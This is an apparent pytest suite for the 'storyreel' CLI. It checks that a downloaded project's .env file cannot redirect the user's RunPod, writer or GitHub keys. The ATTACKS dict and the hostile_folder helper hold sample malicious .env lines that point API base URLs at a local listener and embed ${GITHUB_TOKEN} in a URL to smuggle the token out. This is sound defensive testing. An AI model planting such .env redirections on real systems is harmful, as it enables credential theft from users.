"""Issue 14, item 2: a downloaded folder's ``.env`` must not redirect a person's keys.

The person's keys live in ``STORYREEL_HOME/.env``. ``storyreel doctor`` runs in a
folder whose ``.env`` points the RunPod API and the writer at a socket this test
listens on (plain http, as the review's attack did; the socket is on 127.0.0.1
so that no test reaches another computer). Nothing may arrive there, and the keys
appear nowhere in the output. A ``.env`` is read only when named with ``--env-file``.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.integration.support import CLI_TIMEOUT_S, REPO

RUNPOD_KEY = "rpa_PERSONS_OWN_RUNPOD_KEY"
WRITER_KEY = "sk-PERSONS-OWN-WRITER-KEY"
GITHUB_TOKEN = "ghp_TOKEN_FROM_THE_ENVIRONMENT"


class Listener:
    """A TCP socket on 127.0.0.1 that records every connection and what it sent."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                data = b""
                with contextlib.suppress(OSError):
                    data = conn.recv(65536)
                self.received.append(data)  # then closed: the client sees an error at once

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=10)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as server:
        yield server


def storyreel_in(folder: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess:
    """``python -m app ARGS`` run from ``folder`` (the code under test from this checkout)."""
    path = os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")]))
    return subprocess.run([sys.executable, "-m", "app", *args], cwd=folder,
                          capture_output=True, text=True, timeout=CLI_TIMEOUT_S,
                          env={**env, "PYTHONPATH": path})


def person(home: str) -> dict[str, str]:
    """The person's environment: their data folder, whose .env holds their keys."""
    Path(home, ".env").write_text(f"RUNPOD_API_KEY={RUNPOD_KEY}\nWRITER_API_KEY={WRITER_KEY}\n")
    env = {k: v for k, v in os.environ.items() if k != "STORYREEL_ENV_FILE"}
    return {**env, "STORYREEL_HOME": home, "GITHUB_TOKEN": GITHUB_TOKEN}


# What a downloaded folder's .env may try: the RunPod API (a RunPod writer makes doctor
# ask its health with the key), or an OpenAI-compatible writer with ${VAR} in its URL;
# both with the history and the data folder moved too.
ATTACKS = {
    "runpod": "RUNPOD_ENDPOINT_BASE_URL=http://127.0.0.1:{port}/v2\n"
              "RUNPOD_WRITER_ENDPOINT=writer\n",
    "writer": "WRITER_BASE_URL=http://127.0.0.1:{port}/${{GITHUB_TOKEN}}/v1\n"
              "WRITER_MODEL=m\n",
}


def hostile_folder(tmp_path: Path, port: int, attack: str) -> Path:
    folder = tmp_path / "downloaded-project"
    folder.mkdir()
    (folder / ".env").write_text(
        ATTACKS[attack].format(port=port)
        + f"MONGODB_URI=mongodb://127.0.0.1:{port}/?serverSelectionTimeoutMS=2000\n"
        + f"STORYREEL_HOME={tmp_path / 'attackers-home'}\n")
    return folder


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_doctor_in_a_hostile_folder_sends_nothing(tmp_path, home, listener, attack):
    folder = hostile_folder(tmp_path, listener.port, attack)
    result = storyreel_in(folder, "doctor", "--json", env=person(home))

    sent = b"".join(listener.received)
    for secret in (RUNPOD_KEY, WRITER_KEY, GITHUB_TOKEN):
        assert secret.encode() not in sent
    assert listener.received == []  # not even the history's hello
    out = result.stdout + result.stderr
    for secret in (RUNPOD_KEY, WRITER_KEY, GITHUB_TOKEN):
        assert secret not in out
    assert not (tmp_path / "attackers-home").exists()
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["home"] == home
    assert report["sources"] == ["environment", str(Path(home, ".env"))]
    assert [p["mode"] for p in report["parts"]] == ["embedded"] * 4


def test_a_named_env_file_is_read_but_never_expanded(tmp_path, home, listener):
    """Named on purpose, the folder's settings apply; ``${GITHUB_TOKEN}`` stays as written
    and the keys still go only where the transport rule allows (here: loopback)."""
    folder = tmp_path / "project"
    folder.mkdir()
    named = folder / "writer.env"
    named.write_text(f"WRITER_BASE_URL=http://127.0.0.1:{listener.port}/${{GITHUB_TOKEN}}/v1\n"
                     "WRITER_MODEL=m\n")
    result = storyreel_in(folder, "--env-file", "writer.env", "doctor", env=person(home))

    assert f"settings from: environment, {named} (--env-file), {home}/.env" \
        in result.stdout.splitlines()
    assert GITHUB_TOKEN.encode() not in b"".join(listener.received)  # the literal was sent
    assert b"GET /$%7BGITHUB_TOKEN%7D/v1/models " in b"".join(listener.received)
    out = result.stdout + result.stderr
    for secret in (RUNPOD_KEY, WRITER_KEY, GITHUB_TOKEN):
        assert secret not in out


def test_keys_over_plain_http_to_another_host_stop_the_cli(tmp_path, home):
    named = tmp_path / "lan.env"
    named.write_text("RUNPOD_ENDPOINT_BASE_URL=http://gpu.invalid/v2\n")
    result = storyreel_in(tmp_path, "doctor", "--env-file", str(named), env=person(home))

    assert result.returncode == 2
    assert result.stderr.startswith("storyreel: RUNPOD_ENDPOINT_BASE_URL is plain http:// to "
                                    "another computer")
    assert RUNPOD_KEY not in result.stdout + result.stderr


def test_env_file_names_a_file_that_must_exist(tmp_path, home):
    result = storyreel_in(tmp_path, "history", "--env-file=nowhere.env", env=person(home))
    assert result.returncode == 2
    assert result.stderr == f"storyreel: --env-file {tmp_path / 'nowhere.env'}: no such file\n"


def test_the_window_gets_the_named_file_too(tmp_path, monkeypatch):
    """``storyreel --env-file X`` (no command) and ``storyreel --env-file X idea.txt``
    open the window; its settings are read with the named file."""
    from app import cli

    opened: list[tuple[list[str], str | None]] = []

    def window(files: list[str], *, self_test: bool) -> int:
        opened.append((files, os.environ.get("STORYREEL_ENV_FILE")))
        return 0

    monkeypatch.setattr(cli, "_window", window)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("STORYREEL_ENV_FILE", "")  # main() sets it: undone after the test
    monkeypatch.delenv("STORYREEL_ENV_FILE")
    assert cli.main(["--env-file", "a.env"]) == 0
    monkeypatch.delenv("STORYREEL_ENV_FILE")
    assert cli.main(["--env-file=b.env", "idea.txt"]) == 0
    assert opened == [([], str(tmp_path / "a.env")), (["idea.txt"], str(tmp_path / "b.env"))]
